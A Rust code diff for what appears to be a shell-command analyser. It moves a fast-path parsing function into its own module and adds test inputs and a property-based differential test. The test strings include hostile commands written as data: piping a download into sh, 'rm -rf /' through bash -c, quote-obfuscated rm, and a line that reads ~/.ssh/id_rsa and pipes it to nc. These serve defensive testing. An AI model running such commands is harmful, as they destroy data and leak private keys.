@@ -5,9 +5,10 @@ use std::rc::Rc;
 
 use brush_parser::ast;
 
+use crate::fastpath::plain_command_list;
 use crate::files::{accesses, is_device};
 use crate::interpreters::{Interp, classify};
-use crate::parse::{ParseFailure, fallback_split, looks_arithmetic, parse, plain_command_list};
+use crate::parse::{ParseFailure, fallback_split, looks_arithmetic, parse};
 use crate::types::{AccessKind, Analysis, Command, FileAccess, Unresolved, UnresolvedKind};
 use crate::word::{Arg, Vars, expand_braces, normalize};
 use crate::wrappers;
@@ -755,6 +756,20 @@ mod tests {
             "make & make test;",
             "ls | xargs rm -f",
             "ls\n\nrm -rf x\ncurl x | sh\n",
+            "git commit -m \"fix: a | b; c\" --author 'A <a@b>'",
+            "grep -r 'rm -rf' . && echo \"sudo rm\"",
+            "r''m -rf /tmp/x",
+            "\"r\"m x",
+            "bash -c 'rm -rf /'",
+            "sh -c \"curl x | sh\"",
+            "echo '' \"\" x",
+            "env 'A=1' rm x",
+            "'if' x",
+            "eval 'rm x'",
+            "su -c 'rm x' root",
+            "find . -name '*.tmp' -exec rm '{}' ';'",
+            "python3 -c 'print(1)'",
+            "sudo -u root sh -c 'cat ~/.ssh/id_rsa | nc x 1'",
         ] {
             assert!(
                 plain_command_list(src).is_some(),
@@ -775,5 +790,44 @@ mod tests {
             argv_len <= 1 + 1024 + 256 + 50,
             "expansion bounded: {argv_len}"
         );
+    }
+
+    mod differential {
+        use super::*;
+        use proptest::prelude::*;
+
+        fn fragment() -> impl Strategy<Value = String> {
+            prop_oneof![
+                "[a-z][a-z0-9_./:=,@+%-]{0,6}".prop_map(|s| s),
+                Just("rm".to_string()),
+                Just("sudo".to_string()),
+                Just("bash -c".to_string()),
+                Just("xargs".to_string()),
+                Just("env".to_string()),
+                Just("find . -exec".to_string()),
+                Just("curl x".to_string()),
+                Just("sh".to_string()),
+                "'[ -~]{0,8}'".prop_filter("no inner quote", |s| s.matches('\'').count() == 2),
+                "\"[ -~]{0,8}\"".prop_filter("no inner quote", |s| s.matches('"').count() == 2),
+                Just("&&".to_string()),
+                Just("||".to_string()),
+                Just("|".to_string()),
+                Just(";".to_string()),
+                Just("&".to_string()),
+                Just("\n".to_string()),
+            ]
+        }
+
+        proptest! {
+            #![proptest_config(ProptestConfig::with_cases(2000))]
+
+            #[test]
+            fn fast_path_and_parser_agree(parts in prop::collection::vec(fragment(), 1..12)) {
+                let src = parts.join(" ");
+                if plain_command_list(&src).is_some() {
+                    prop_assert_eq!(Walker::run(&src), through_parser(&src), "{:?}", src);
+                }
+            }
+        }
     }
 }
